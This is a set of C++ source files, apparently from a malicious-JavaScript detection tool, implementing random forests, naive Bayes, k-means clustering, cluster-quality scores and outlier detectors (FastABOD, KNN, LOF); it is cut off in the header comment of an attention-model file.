  nodes_[static_cast<std::size_t>(node_id)].p_malicious =
      n > 0 ? static_cast<double>(pos) / static_cast<double>(n) : 0.0;

  const double node_gini = gini(pos, n);
  if (depth >= cfg_.max_depth || n < static_cast<std::size_t>(cfg_.min_samples_split) ||
      pos == 0 || pos == n || node_gini <= 1e-12) {
    return node_id;  // leaf
  }

  // Candidate features: all, or a random subset of size max_features.
  std::vector<std::size_t> features;
  if (cfg_.max_features > 0 &&
      static_cast<std::size_t>(cfg_.max_features) < n_features_) {
    // Sample without replacement via partial Fisher-Yates.
    std::vector<std::size_t> all(n_features_);
    std::iota(all.begin(), all.end(), 0);
    for (int i = 0; i < cfg_.max_features; ++i) {
      const std::size_t j =
          static_cast<std::size_t>(i) +
          rng.below(n_features_ - static_cast<std::size_t>(i));
      std::swap(all[static_cast<std::size_t>(i)], all[j]);
      features.push_back(all[static_cast<std::size_t>(i)]);
    }
  } else {
    features.resize(n_features_);
    std::iota(features.begin(), features.end(), 0);
  }

  // Best split by gini impurity decrease; thresholds from sorted values.
  // Zero-gain splits are allowed (strictly-below the epsilon-padded parent
  // impurity): XOR-like patterns need them, recursion still terminates
  // because child node sizes strictly shrink and depth is capped.
  int best_feature = -1;
  double best_threshold = 0.0;
  double best_impurity = node_gini + 1e-9;

  std::vector<std::pair<double, int>> vals;
  vals.reserve(n);
  for (const std::size_t f : features) {
    vals.clear();
    for (std::size_t i = begin; i < end; ++i) {
      vals.emplace_back(x(rows[i], f), y[rows[i]]);
    }
    std::sort(vals.begin(), vals.end());
    std::size_t left_n = 0, left_pos = 0;
    for (std::size_t i = 0; i + 1 < n; ++i) {
      ++left_n;
      left_pos += vals[i].second == 1;
      if (vals[i].first == vals[i + 1].first) continue;  // no split point
      const std::size_t right_n = n - left_n;
      const std::size_t right_pos = pos - left_pos;
      const double impurity =
          (static_cast<double>(left_n) * gini(left_pos, left_n) +
           static_cast<double>(right_n) * gini(right_pos, right_n)) /
          static_cast<double>(n);
      if (impurity < best_impurity) {
        best_impurity = impurity;
        best_feature = static_cast<int>(f);
        best_threshold = 0.5 * (vals[i].first + vals[i + 1].first);
      }
    }
  }

  if (best_feature < 0) return node_id;  // no useful split

  // Partition rows in place.
  const auto bf = static_cast<std::size_t>(best_feature);
  std::size_t mid = begin;
  for (std::size_t i = begin; i < end; ++i) {
    if (x(rows[i], bf) <= best_threshold) {
      std::swap(rows[i], rows[mid]);
      ++mid;
    }
  }
  if (mid == begin || mid == end) return node_id;  // degenerate

  importance_[bf] +=
      static_cast<double>(n) * std::max(0.0, node_gini - best_impurity);

  nodes_[static_cast<std::size_t>(node_id)].feature = best_feature;
  nodes_[static_cast<std::size_t>(node_id)].threshold = best_threshold;
  const int left = build(x, y, rows, begin, mid, depth + 1, rng);
  nodes_[static_cast<std::size_t>(node_id)].left = left;
  const int right = build(x, y, rows, mid, end, depth + 1, rng);
  nodes_[static_cast<std::size_t>(node_id)].right = right;
  return node_id;
}

double DecisionTree::predict_proba(const double* row) const {
  if (nodes_.empty()) return 0.0;
  std::size_t cur = 0;
  while (nodes_[cur].feature >= 0) {
    const auto& n = nodes_[cur];
    cur = static_cast<std::size_t>(
        row[static_cast<std::size_t>(n.feature)] <= n.threshold ? n.left
                                                                : n.right);
  }
  return nodes_[cur].p_malicious;
}

int DecisionTree::predict(const double* row) const {
  return predict_proba(row) >= 0.5 ? 1 : 0;
}

void DecisionTree::append_flat(std::vector<ForestNodeRec>* pool) const {
  for (const TreeNode& n : nodes_) {
    ForestNodeRec rec;
    rec.feature = n.feature;
    rec.left = n.left;
    rec.right = n.right;
    rec.threshold = n.threshold;
    rec.p_malicious = n.p_malicious;
    pool->push_back(rec);
  }
}

RandomForest::RandomForest(ForestConfig cfg) : cfg_(cfg) {}

void RandomForest::fit(const Matrix& x, const std::vector<int>& y) {
  n_features_ = x.cols();
  const std::size_t n = x.rows();
  const int mtry = std::max(
      1, static_cast<int>(std::sqrt(static_cast<double>(n_features_))));

  // Trees train independently: tree t's RNG is derived from (seed, t) rather
  // than a shared sequential stream, so tree t is identical no matter how
  // many threads fit the forest (or in what order trees complete).
  trees_.assign(static_cast<std::size_t>(cfg_.n_trees), DecisionTree());
  parallel_for_threads(
      cfg_.threads, static_cast<std::size_t>(cfg_.n_trees),
      [&](std::size_t t) {
        Rng tree_rng(hash_combine(cfg_.seed, 0x7265656eULL + t));
        TreeConfig tc;
        tc.max_depth = cfg_.max_depth;
        tc.min_samples_split = cfg_.min_samples_split;
        tc.max_features = mtry;
        tc.seed = tree_rng();
        DecisionTree tree(tc);
        // Bootstrap sample.
        std::vector<std::size_t> rows(n);
        for (std::size_t i = 0; i < n; ++i) rows[i] = tree_rng.below(n);
        tree.fit_subset(x, y, rows);
        trees_[t] = std::move(tree);
      });
}

double RandomForest::predict_proba(const double* row) const {
  if (trees_.empty()) return 0.0;
  double s = 0.0;
  for (const auto& t : trees_) s += t.predict_proba(row);
  return s / static_cast<double>(trees_.size());
}

int RandomForest::predict(const double* row) const {
  return predict_proba(row) >= 0.5 ? 1 : 0;
}

void RandomForest::export_flat(std::vector<ForestNodeRec>* pool,
                               std::vector<std::uint32_t>* offsets) const {
  pool->clear();
  offsets->clear();
  offsets->reserve(trees_.size() + 1);
  offsets->push_back(0);
  for (const DecisionTree& t : trees_) {
    t.append_flat(pool);
    offsets->push_back(static_cast<std::uint32_t>(pool->size()));
  }
}

std::vector<double> RandomForest::feature_importances() const {
  std::vector<double> imp(n_features_, 0.0);
  for (const auto& t : trees_) {
    const auto& ti = t.impurity_decrease();
    for (std::size_t f = 0; f < n_features_ && f < ti.size(); ++f) {
      imp[f] += ti[f];
    }
  }
  double total = 0.0;
  for (const double v : imp) total += v;
  if (total > 0) {
    for (double& v : imp) v /= total;
  }
  return imp;
}

}  // namespace jsrev::ml
