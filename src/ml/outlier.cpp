#include "ml/outlier.h"

#include <algorithm>
#include <cmath>
#include <limits>
#include <numeric>

#include "obs/metrics.h"
#include "obs/trace.h"
#include "util/thread_pool.h"

namespace jsrev::ml {
namespace {

/// Indices of the k nearest neighbors of each point (excluding itself),
/// by Euclidean distance. O(n^2 d) — the dominant cost of every method here,
/// parallelized over query points (each writes only its own row of `out`).
std::vector<std::vector<std::size_t>> knn_indices(const Matrix& points,
                                                  int k, std::size_t threads) {
  const std::size_t n = points.rows();
  const std::size_t d = points.cols();
  const auto kk = static_cast<std::size_t>(
      std::max(1, std::min<int>(k, static_cast<int>(n) - 1)));

  std::vector<std::vector<std::size_t>> out(n);
  parallel_for_threads(threads, n, [&](std::size_t i) {
    std::vector<std::pair<double, std::size_t>> dist;
    dist.reserve(n - 1);
    for (std::size_t j = 0; j < n; ++j) {
      if (j == i) continue;
      dist.emplace_back(squared_distance(points.row(i), points.row(j), d), j);
    }
    const std::size_t take = std::min(kk, dist.size());
    std::partial_sort(dist.begin(), dist.begin() + static_cast<long>(take),
                      dist.end());
    out[i].reserve(take);
    for (std::size_t t = 0; t < take; ++t) out[i].push_back(dist[t].second);
  });
  return out;
}

OutlierResult threshold(std::vector<double> scores, double contamination) {
  OutlierResult res;
  const std::size_t n = scores.size();
  res.scores = std::move(scores);
  res.is_outlier.assign(n, false);
  if (n == 0) return res;

  auto count = static_cast<std::size_t>(
      std::floor(contamination * static_cast<double>(n)));
  count = std::min(count, n > 0 ? n - 1 : 0);  // never flag everything
  if (count == 0) return res;

  std::vector<std::size_t> order(n);
  std::iota(order.begin(), order.end(), 0);
  std::partial_sort(order.begin(), order.begin() + static_cast<long>(count),
                    order.end(), [&res](std::size_t a, std::size_t b) {
                      return res.scores[a] > res.scores[b];
                    });
  for (std::size_t i = 0; i < count; ++i) res.is_outlier[order[i]] = true;
  res.outlier_count = count;
  static obs::Counter* scored = obs::metrics().counter("ml.outlier.scored");
  static obs::Counter* flagged = obs::metrics().counter("ml.outlier.flagged");
  scored->add(n);
  flagged->add(count);
  return res;
}

}  // namespace

OutlierResult fastabod(const Matrix& points, const OutlierConfig& cfg) {
  obs::Span span("ml.fastabod", "ml");
  const std::size_t n = points.rows();
  const std::size_t d = points.cols();
  if (n < 3) {
    OutlierResult res;
    res.scores.assign(n, 0.0);
    res.is_outlier.assign(n, false);
    return res;
  }
  const auto nn = knn_indices(points, cfg.k_neighbors, cfg.threads);

  // O(n k^2 d) angle-variance pass: each point's score depends only on its
  // own neighborhood, so points fan out with no shared writes.
  std::vector<double> scores(n, 0.0);
  parallel_for_threads(cfg.threads, n, [&](std::size_t p) {
    std::vector<double> diff_b(d), diff_c(d);
    const auto& neigh = nn[p];
    double sum = 0.0, sum_sq = 0.0;
    std::size_t pairs = 0;
    for (std::size_t bi = 0; bi < neigh.size(); ++bi) {
      const double* b = points.row(neigh[bi]);
      double nb = 0.0;
      for (std::size_t t = 0; t < d; ++t) {
        diff_b[t] = b[t] - points.row(p)[t];
        nb += diff_b[t] * diff_b[t];
      }
      if (nb < 1e-18) continue;
      for (std::size_t ci = bi + 1; ci < neigh.size(); ++ci) {
        const double* c = points.row(neigh[ci]);
        double nc = 0.0, dp = 0.0;
        for (std::size_t t = 0; t < d; ++t) {
          diff_c[t] = c[t] - points.row(p)[t];
          nc += diff_c[t] * diff_c[t];
          dp += diff_b[t] * diff_c[t];
        }
        if (nc < 1e-18) continue;
        const double term = dp / (nb * nc);  // angle weighted by distances
        sum += term;
        sum_sq += term * term;
        ++pairs;
      }
    }
    double abof = 0.0;
    if (pairs > 1) {
      const double mean = sum / static_cast<double>(pairs);
      abof = sum_sq / static_cast<double>(pairs) - mean * mean;  // variance
    }
    // Small ABOF = outlier; negate so "higher = more outlying".
    scores[p] = -abof;
  });
  return threshold(std::move(scores), cfg.contamination);
}

OutlierResult knn_outlier(const Matrix& points, const OutlierConfig& cfg) {
  obs::Span span("ml.knn_outlier", "ml");
  const std::size_t n = points.rows();
  const std::size_t d = points.cols();
  if (n < 2) {
    OutlierResult res;
    res.scores.assign(n, 0.0);
    res.is_outlier.assign(n, false);
    return res;
  }
  const auto nn = knn_indices(points, cfg.k_neighbors, cfg.threads);
  std::vector<double> scores(n, 0.0);
  parallel_for_threads(cfg.threads, n, [&](std::size_t i) {
    double s = 0.0;
    for (const std::size_t j : nn[i]) {
      s += std::sqrt(squared_distance(points.row(i), points.row(j), d));
    }
    scores[i] = nn[i].empty() ? 0.0 : s / static_cast<double>(nn[i].size());
  });
  return threshold(std::move(scores), cfg.contamination);
}

OutlierResult lof(const Matrix& points, const OutlierConfig& cfg) {
  obs::Span span("ml.lof", "ml");
  const std::size_t n = points.rows();
  const std::size_t d = points.cols();
  if (n < 3) {
    OutlierResult res;
    res.scores.assign(n, 0.0);
    res.is_outlier.assign(n, false);
    return res;
  }
  const auto nn = knn_indices(points, cfg.k_neighbors, cfg.threads);

  // Three per-point passes; each reads only results of the previous pass and
  // writes its own slot, so each parallelizes independently.

  // k-distance of each point = distance to its k-th nearest neighbor.
  std::vector<double> kdist(n, 0.0);
  parallel_for_threads(cfg.threads, n, [&](std::size_t i) {
    if (!nn[i].empty()) {
      kdist[i] = std::sqrt(
          squared_distance(points.row(i), points.row(nn[i].back()), d));
    }
  });

  // Local reachability density.
  std::vector<double> lrd(n, 0.0);
  parallel_for_threads(cfg.threads, n, [&](std::size_t i) {
    double reach_sum = 0.0;
    for (const std::size_t j : nn[i]) {
      const double dist =
          std::sqrt(squared_distance(points.row(i), points.row(j), d));
      reach_sum += std::max(kdist[j], dist);
    }
    lrd[i] = reach_sum > 0
                 ? static_cast<double>(nn[i].size()) / reach_sum
                 : std::numeric_limits<double>::infinity();
  });

  std::vector<double> scores(n, 0.0);
  parallel_for_threads(cfg.threads, n, [&](std::size_t i) {
    if (nn[i].empty() || !std::isfinite(lrd[i]) || lrd[i] <= 0) {
      scores[i] = 0.0;
      return;
    }
    double ratio_sum = 0.0;
    for (const std::size_t j : nn[i]) {
      ratio_sum += std::isfinite(lrd[j]) ? lrd[j] / lrd[i] : 1.0;
    }
    scores[i] = ratio_sum / static_cast<double>(nn[i].size());
  });
  return threshold(std::move(scores), cfg.contamination);
}

std::string outlier_method_name(OutlierMethod m) {
  switch (m) {
    case OutlierMethod::kFastAbod: return "FastABOD";
    case OutlierMethod::kKnn: return "KNN";
    case OutlierMethod::kLof: return "LOF";
  }
  return "?";
}

OutlierResult run_outlier(OutlierMethod m, const Matrix& points,
                          const OutlierConfig& cfg) {
  switch (m) {
    case OutlierMethod::kFastAbod: return fastabod(points, cfg);
    case OutlierMethod::kKnn: return knn_outlier(points, cfg);
    case OutlierMethod::kLof: return lof(points, cfg);
  }
  return {};
}

OutlierMethod select_outlier_method(const Matrix& points,
                                    const OutlierConfig& cfg) {
  // Proxy criterion (MetaOD substitute): run every candidate, build the
  // consensus outlier set (points flagged by a majority), and score each
  // method by its agreement (Jaccard) with the consensus. Ties break toward
  // FastABOD, the paper's selected model.
  const OutlierMethod methods[] = {OutlierMethod::kFastAbod,
                                   OutlierMethod::kKnn, OutlierMethod::kLof};
  const std::size_t n = points.rows();
  if (n < 3) return OutlierMethod::kFastAbod;

  std::vector<OutlierResult> results;
  for (const OutlierMethod m : methods) {
    results.push_back(run_outlier(m, points, cfg));
  }

  std::vector<int> votes(n, 0);
  for (const auto& r : results) {
    for (std::size_t i = 0; i < n; ++i) votes[i] += r.is_outlier[i];
  }
  std::vector<bool> consensus(n, false);
  for (std::size_t i = 0; i < n; ++i) consensus[i] = votes[i] >= 2;

  OutlierMethod best = OutlierMethod::kFastAbod;
  double best_score = -1.0;
  for (std::size_t mi = 0; mi < 3; ++mi) {
    std::size_t inter = 0, uni = 0;
    for (std::size_t i = 0; i < n; ++i) {
      const bool a = results[mi].is_outlier[i];
      const bool b = consensus[i];
      inter += a && b;
      uni += a || b;
    }
    const double score = uni > 0 ? static_cast<double>(inter) /
                                       static_cast<double>(uni)
                                 : 1.0;
    if (score > best_score + 1e-12) {
      best_score = score;
      best = methods[mi];
    }
  }
  return best;
}

}  // namespace jsrev::ml
