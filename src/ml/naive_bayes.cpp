#include "ml/naive_bayes.h"

#include <cmath>

namespace jsrev::ml {

void GaussianNaiveBayes::fit(const Matrix& x, const std::vector<int>& y) {
  n_features_ = x.cols();
  std::size_t counts[2] = {0, 0};
  for (int c = 0; c < 2; ++c) {
    mean_[c].assign(n_features_, 0.0);
    var_[c].assign(n_features_, 0.0);
  }
  for (std::size_t i = 0; i < x.rows(); ++i) {
    const int c = y[i] == 1 ? 1 : 0;
    ++counts[c];
    const double* row = x.row(i);
    for (std::size_t f = 0; f < n_features_; ++f) mean_[c][f] += row[f];
  }
  for (int c = 0; c < 2; ++c) {
    if (counts[c] == 0) continue;
    for (double& m : mean_[c]) m /= static_cast<double>(counts[c]);
  }
  for (std::size_t i = 0; i < x.rows(); ++i) {
    const int c = y[i] == 1 ? 1 : 0;
    const double* row = x.row(i);
    for (std::size_t f = 0; f < n_features_; ++f) {
      const double d = row[f] - mean_[c][f];
      var_[c][f] += d * d;
    }
  }
  const double total = static_cast<double>(counts[0] + counts[1]);
  for (int c = 0; c < 2; ++c) {
    for (double& v : var_[c]) {
      v = counts[c] > 1 ? v / static_cast<double>(counts[c]) : 0.0;
      v += 1e-9;  // variance smoothing
    }
    log_prior_[c] = counts[c] > 0
                        ? std::log(static_cast<double>(counts[c]) / total)
                        : -1e9;
  }
}

int GaussianNaiveBayes::predict(const double* row) const {
  double log_like[2];
  for (int c = 0; c < 2; ++c) {
    double ll = log_prior_[c];
    for (std::size_t f = 0; f < n_features_; ++f) {
      const double v = var_[c][f];
      const double d = row[f] - mean_[c][f];
      ll += -0.5 * std::log(2.0 * M_PI * v) - d * d / (2.0 * v);
    }
    log_like[c] = ll;
  }
  return log_like[1] > log_like[0] ? 1 : 0;
}

void BernoulliNaiveBayes::fit(const Matrix& x, const std::vector<int>& y) {
  n_features_ = x.cols();
  std::size_t counts[2] = {0, 0};
  std::vector<double> present[2];
  present[0].assign(n_features_, 0.0);
  present[1].assign(n_features_, 0.0);
  for (std::size_t i = 0; i < x.rows(); ++i) {
    const int c = y[i] == 1 ? 1 : 0;
    ++counts[c];
    const double* row = x.row(i);
    for (std::size_t f = 0; f < n_features_; ++f) {
      present[c][f] += row[f] > 0 ? 1.0 : 0.0;
    }
  }
  const double total = static_cast<double>(counts[0] + counts[1]);
  for (int c = 0; c < 2; ++c) {
    log_p_[c].assign(n_features_, 0.0);
    log_not_p_[c].assign(n_features_, 0.0);
    for (std::size_t f = 0; f < n_features_; ++f) {
      // Laplace smoothing.
      const double p = (present[c][f] + 1.0) /
                       (static_cast<double>(counts[c]) + 2.0);
      log_p_[c][f] = std::log(p);
      log_not_p_[c][f] = std::log(1.0 - p);
    }
    log_prior_[c] = counts[c] > 0
                        ? std::log(static_cast<double>(counts[c]) / total)
                        : -1e9;
  }
}

int BernoulliNaiveBayes::predict(const double* row) const {
  double log_like[2];
  for (int c = 0; c < 2; ++c) {
    double ll = log_prior_[c];
    for (std::size_t f = 0; f < n_features_; ++f) {
      ll += row[f] > 0 ? log_p_[c][f] : log_not_p_[c][f];
    }
    log_like[c] = ll;
  }
  return log_like[1] > log_like[0] ? 1 : 0;
}

}  // namespace jsrev::ml
