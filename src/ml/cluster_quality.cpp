#include "ml/cluster_quality.h"

#include <algorithm>
#include <cmath>
#include <limits>
#include <vector>

namespace jsrev::ml {

double silhouette_score(const Matrix& points, const Clustering& clustering) {
  const std::size_t n = points.rows();
  const std::size_t d = points.cols();
  const std::size_t k = clustering.centroids.rows();
  if (n < 2 || k < 2) return 0.0;

  double total = 0.0;
  for (std::size_t i = 0; i < n; ++i) {
    const int own = clustering.assignment[i];
    if (clustering.sizes[static_cast<std::size_t>(own)] <= 1) continue;

    // Mean distance to own cluster (a) and nearest other cluster (b).
    std::vector<double> sum(k, 0.0);
    std::vector<std::size_t> cnt(k, 0);
    for (std::size_t j = 0; j < n; ++j) {
      if (j == i) continue;
      const auto c = static_cast<std::size_t>(clustering.assignment[j]);
      sum[c] += std::sqrt(squared_distance(points.row(i), points.row(j), d));
      ++cnt[c];
    }
    const double a = cnt[static_cast<std::size_t>(own)] > 0
                         ? sum[static_cast<std::size_t>(own)] /
                               static_cast<double>(cnt[static_cast<std::size_t>(own)])
                         : 0.0;
    double b = std::numeric_limits<double>::max();
    for (std::size_t c = 0; c < k; ++c) {
      if (static_cast<int>(c) == own || cnt[c] == 0) continue;
      b = std::min(b, sum[c] / static_cast<double>(cnt[c]));
    }
    if (b == std::numeric_limits<double>::max()) continue;
    const double denom = std::max(a, b);
    total += denom > 0 ? (b - a) / denom : 0.0;
  }
  return total / static_cast<double>(n);
}

GapResult gap_statistic(const Matrix& points, const Clustering& clustering,
                        int n_refs, std::uint64_t seed) {
  const std::size_t n = points.rows();
  const std::size_t d = points.cols();
  GapResult result;
  if (n == 0 || clustering.centroids.rows() == 0) return result;

  const double log_w = std::log(std::max(clustering.sse, 1e-12));

  // Bounding box of the data.
  std::vector<double> lo(d, std::numeric_limits<double>::max());
  std::vector<double> hi(d, std::numeric_limits<double>::lowest());
  for (std::size_t i = 0; i < n; ++i) {
    for (std::size_t j = 0; j < d; ++j) {
      lo[j] = std::min(lo[j], points(i, j));
      hi[j] = std::max(hi[j], points(i, j));
    }
  }

  Rng rng(seed);
  std::vector<double> ref_logs;
  for (int r = 0; r < n_refs; ++r) {
    Matrix ref(n, d);
    for (std::size_t i = 0; i < n; ++i) {
      for (std::size_t j = 0; j < d; ++j) {
        ref(i, j) = rng.uniform(lo[j], hi[j]);
      }
    }
    KMeansConfig cfg;
    cfg.k = static_cast<int>(clustering.centroids.rows());
    cfg.seed = rng();
    ref_logs.push_back(
        std::log(std::max(bisecting_kmeans(ref, cfg).sse, 1e-12)));
  }
  double mean = 0.0;
  for (const double v : ref_logs) mean += v;
  mean /= static_cast<double>(ref_logs.size());
  double var = 0.0;
  for (const double v : ref_logs) var += (v - mean) * (v - mean);
  var /= static_cast<double>(ref_logs.size());

  result.gap = mean - log_w;
  // sd * sqrt(1 + 1/B) per Tibshirani et al.
  result.sigma = std::sqrt(var) *
                 std::sqrt(1.0 + 1.0 / static_cast<double>(ref_logs.size()));
  return result;
}

int select_k(const Matrix& points, int k_lo, int k_hi, int criterion,
             std::uint64_t seed) {
  k_lo = std::max(2, k_lo);
  if (k_hi < k_lo) k_hi = k_lo;

  std::vector<Clustering> clusterings;
  for (int k = k_lo; k <= k_hi; ++k) {
    KMeansConfig cfg;
    cfg.k = k;
    cfg.seed = seed + static_cast<std::uint64_t>(k);
    clusterings.push_back(bisecting_kmeans(points, cfg));
  }

  switch (criterion) {
    case 1: {  // silhouette: maximize
      int best_k = k_lo;
      double best = -2.0;
      for (std::size_t i = 0; i < clusterings.size(); ++i) {
        const double s = silhouette_score(points, clusterings[i]);
        if (s > best) {
          best = s;
          best_k = k_lo + static_cast<int>(i);
        }
      }
      return best_k;
    }
    case 2: {  // gap statistic with the 1-sigma rule
      std::vector<GapResult> gaps;
      for (const auto& c : clusterings) {
        gaps.push_back(gap_statistic(points, c, 6, seed ^ 0x99));
      }
      for (std::size_t i = 0; i + 1 < gaps.size(); ++i) {
        if (gaps[i].gap >= gaps[i + 1].gap - gaps[i + 1].sigma) {
          return k_lo + static_cast<int>(i);
        }
      }
      return k_hi;
    }
    default: {  // elbow: largest drop-ratio falloff
      int best_k = k_lo + 1;
      double best_ratio = 0.0;
      for (std::size_t i = 1; i + 1 < clusterings.size(); ++i) {
        const double before = clusterings[i - 1].sse - clusterings[i].sse;
        const double after = clusterings[i].sse - clusterings[i + 1].sse;
        const double ratio = after > 1e-12 ? before / after : before;
        if (ratio > best_ratio) {
          best_ratio = ratio;
          best_k = k_lo + static_cast<int>(i);
        }
      }
      return best_k;
    }
  }
}

}  // namespace jsrev::ml
