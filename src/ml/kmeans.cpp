#include "ml/kmeans.h"

#include <algorithm>
#include <atomic>
#include <cmath>
#include <limits>

#include "ml/model_view_ops.h"
#include "obs/metrics.h"
#include "obs/trace.h"
#include "util/thread_pool.h"

namespace jsrev::ml {
namespace {

obs::Counter* kmeans_iterations() {
  static obs::Counter* c = obs::metrics().counter("ml.kmeans.iterations");
  return c;
}

/// Runs Lloyd iterations on the subset `rows` of `points` with `k` clusters.
/// Returns centroids (k x d), assignment per subset element, and SSE.
struct SubResult {
  Matrix centroids;
  std::vector<int> assignment;
  double sse = 0.0;
};

SubResult lloyd(const Matrix& points, const std::vector<std::size_t>& rows,
                int k, int max_iters, Rng& rng, std::size_t threads) {
  const std::size_t d = points.cols();
  const std::size_t n = rows.size();
  SubResult res;
  res.centroids = Matrix(static_cast<std::size_t>(k), d);
  res.assignment.assign(n, 0);
  if (n == 0) return res;

  // k-means++ seeding.
  std::vector<std::size_t> seeds;
  seeds.push_back(rows[rng.below(n)]);
  std::vector<double> dist2(n, std::numeric_limits<double>::max());
  while (seeds.size() < static_cast<std::size_t>(k)) {
    double total = 0.0;
    for (std::size_t i = 0; i < n; ++i) {
      const double d2 = squared_distance(points.row(rows[i]),
                                         points.row(seeds.back()), d);
      dist2[i] = std::min(dist2[i], d2);
      total += dist2[i];
    }
    if (total <= 0.0) {
      seeds.push_back(rows[rng.below(n)]);  // all duplicates
      continue;
    }
    double target = rng.uniform() * total;
    std::size_t chosen = n - 1;
    for (std::size_t i = 0; i < n; ++i) {
      target -= dist2[i];
      if (target <= 0) {
        chosen = i;
        break;
      }
    }
    seeds.push_back(rows[chosen]);
  }
  for (int c = 0; c < k; ++c) {
    const double* src = points.row(seeds[static_cast<std::size_t>(c)]);
    std::copy(src, src + d, res.centroids.row(static_cast<std::size_t>(c)));
  }

  std::vector<double> sums(static_cast<std::size_t>(k) * d);
  std::vector<std::size_t> counts(static_cast<std::size_t>(k));
  for (int iter = 0; iter < max_iters; ++iter) {
    kmeans_iterations()->add();
    // Assignment: O(n k d), the hot step. Each point writes only its own
    // slot; the centroid update below stays serial in row order so the
    // floating-point sums are identical at any thread count.
    std::atomic<bool> changed{false};
    parallel_for_threads(threads, n, [&](std::size_t i) {
      const int c = nearest_centroid(res.centroids, points.row(rows[i]));
      if (c != res.assignment[i]) {
        res.assignment[i] = c;
        changed.store(true, std::memory_order_relaxed);
      }
    });
    if (!changed.load() && iter > 0) break;

    std::fill(sums.begin(), sums.end(), 0.0);
    std::fill(counts.begin(), counts.end(), 0);
    for (std::size_t i = 0; i < n; ++i) {
      const auto c = static_cast<std::size_t>(res.assignment[i]);
      const double* p = points.row(rows[i]);
      for (std::size_t j = 0; j < d; ++j) sums[c * d + j] += p[j];
      ++counts[c];
    }
    for (std::size_t c = 0; c < static_cast<std::size_t>(k); ++c) {
      if (counts[c] == 0) {
        // Re-seed an empty cluster at a random point.
        const double* p = points.row(rows[rng.below(n)]);
        std::copy(p, p + d, res.centroids.row(c));
        continue;
      }
      double* cent = res.centroids.row(c);
      for (std::size_t j = 0; j < d; ++j) {
        cent[j] = sums[c * d + j] / static_cast<double>(counts[c]);
      }
    }
  }

  // Per-point distances computed in parallel; summed serially in row order.
  std::vector<double> d2(n, 0.0);
  parallel_for_threads(threads, n, [&](std::size_t i) {
    d2[i] = squared_distance(
        points.row(rows[i]),
        res.centroids.row(static_cast<std::size_t>(res.assignment[i])), d);
  });
  res.sse = 0.0;
  for (std::size_t i = 0; i < n; ++i) res.sse += d2[i];
  return res;
}

Clustering finalize(const Matrix& points, const Matrix& centroids,
                    std::size_t threads) {
  const std::size_t k = centroids.rows();
  const std::size_t d = points.cols();
  const std::size_t n = points.rows();
  Clustering out;
  out.centroids = centroids;
  out.assignment.resize(n);
  out.cluster_sse.assign(k, 0.0);
  out.sizes.assign(k, 0);
  std::vector<double> d2(n, 0.0);
  parallel_for_threads(threads, n, [&](std::size_t i) {
    const int c = nearest_centroid(centroids, points.row(i));
    out.assignment[i] = c;
    d2[i] = squared_distance(points.row(i),
                             centroids.row(static_cast<std::size_t>(c)), d);
  });
  for (std::size_t i = 0; i < n; ++i) {
    const auto c = static_cast<std::size_t>(out.assignment[i]);
    out.cluster_sse[c] += d2[i];
    out.sse += d2[i];
    ++out.sizes[c];
  }
  return out;
}

}  // namespace

int nearest_centroid(const Matrix& centroids, const double* point) {
  // Shared with the mmap-backed ModelView so heap and mapped inference run
  // the identical scan.
  return nearest_centroid_raw(centroids.data().data(), centroids.rows(),
                              centroids.cols(), point);
}

double nearest_centroid_distance(const Matrix& centroids,
                                 const double* point) {
  double best = std::numeric_limits<double>::max();
  for (std::size_t c = 0; c < centroids.rows(); ++c) {
    best = std::min(best, squared_distance(centroids.row(c), point,
                                           centroids.cols()));
  }
  return std::sqrt(best);
}

Clustering kmeans(const Matrix& points, const KMeansConfig& cfg) {
  obs::Span span("ml.kmeans", "ml");
  Rng rng(cfg.seed);
  const std::size_t n = points.rows();
  const int k = std::max(1, std::min<int>(cfg.k, static_cast<int>(n)));
  std::vector<std::size_t> all(n);
  for (std::size_t i = 0; i < n; ++i) all[i] = i;
  const SubResult res = lloyd(points, all, k, cfg.max_iters, rng, cfg.threads);
  return finalize(points, res.centroids, cfg.threads);
}

Clustering bisecting_kmeans(const Matrix& points, const KMeansConfig& cfg) {
  obs::Span span("ml.bisecting_kmeans", "ml");
  Rng rng(cfg.seed);
  const std::size_t n = points.rows();
  const std::size_t d = points.cols();
  const int k = std::max(1, std::min<int>(cfg.k, static_cast<int>(n)));

  struct Cluster {
    std::vector<std::size_t> rows;
    std::vector<double> centroid;
    double sse = 0.0;
  };

  auto measure = [&](Cluster& c) {
    c.centroid.assign(d, 0.0);
    for (const std::size_t r : c.rows) {
      const double* p = points.row(r);
      for (std::size_t j = 0; j < d; ++j) c.centroid[j] += p[j];
    }
    for (double& x : c.centroid) x /= static_cast<double>(c.rows.size());
    // Distances in parallel, summed serially in row order.
    std::vector<double> d2(c.rows.size(), 0.0);
    parallel_for_threads(cfg.threads, c.rows.size(), [&](std::size_t i) {
      d2[i] = squared_distance(points.row(c.rows[i]), c.centroid.data(), d);
    });
    c.sse = 0.0;
    for (const double v : d2) c.sse += v;
  };

  std::vector<Cluster> clusters(1);
  clusters[0].rows.resize(n);
  for (std::size_t i = 0; i < n; ++i) clusters[0].rows[i] = i;
  measure(clusters[0]);

  while (clusters.size() < static_cast<std::size_t>(k)) {
    // Split the cluster with the largest SSE that has ≥2 points.
    std::size_t worst = clusters.size();
    double worst_sse = -1.0;
    for (std::size_t i = 0; i < clusters.size(); ++i) {
      if (clusters[i].rows.size() >= 2 && clusters[i].sse > worst_sse) {
        worst_sse = clusters[i].sse;
        worst = i;
      }
    }
    if (worst == clusters.size()) break;  // nothing splittable

    SubResult best;
    best.sse = std::numeric_limits<double>::max();
    for (int trial = 0; trial < std::max(1, cfg.bisect_trials); ++trial) {
      SubResult r = lloyd(points, clusters[worst].rows, 2, cfg.max_iters, rng,
                          cfg.threads);
      if (r.sse < best.sse) best = std::move(r);
    }

    Cluster left, right;
    for (std::size_t i = 0; i < clusters[worst].rows.size(); ++i) {
      (best.assignment[i] == 0 ? left : right)
          .rows.push_back(clusters[worst].rows[i]);
    }
    if (left.rows.empty() || right.rows.empty()) break;  // degenerate data
    measure(left);
    measure(right);
    clusters[worst] = std::move(left);
    clusters.push_back(std::move(right));
  }

  Matrix centroids(clusters.size(), d);
  for (std::size_t c = 0; c < clusters.size(); ++c) {
    std::copy(clusters[c].centroid.begin(), clusters[c].centroid.end(),
              centroids.row(c));
  }
  return finalize(points, centroids, cfg.threads);
}

}  // namespace jsrev::ml
