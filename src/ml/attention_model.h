// Attention-based path embedding model (paper Section III-C, Eq. 1-5).
//
// Architecture: each path (a one-hot index into the path vocabulary) is
// embedded via a learned matrix W and tanh nonlinearity:
//     e_i = tanh(W[:, idx_i])                       (Eq. 1)
// attention weights over a script's paths:
